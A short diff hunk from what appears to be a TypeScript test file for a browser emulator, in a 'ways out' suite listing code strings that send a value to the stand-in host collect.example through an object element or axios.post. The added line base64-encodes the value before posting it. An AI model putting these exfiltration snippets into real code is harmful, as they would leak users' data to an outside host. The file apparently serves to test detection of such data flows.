@@ -36,6 +36,7 @@ const sinks: Record<string, string> = {
   object:
     "var o = document.createElement('object'); o.data = 'https://collect.example/o?n=' + n; document.body.appendChild(o)",
   library: "axios.post('https://collect.example/a', { n: n })",
+  'library, with text': "axios.post('https://collect.example/a', btoa(n))",
 };
 
 describe('emulator: ways out', () => {
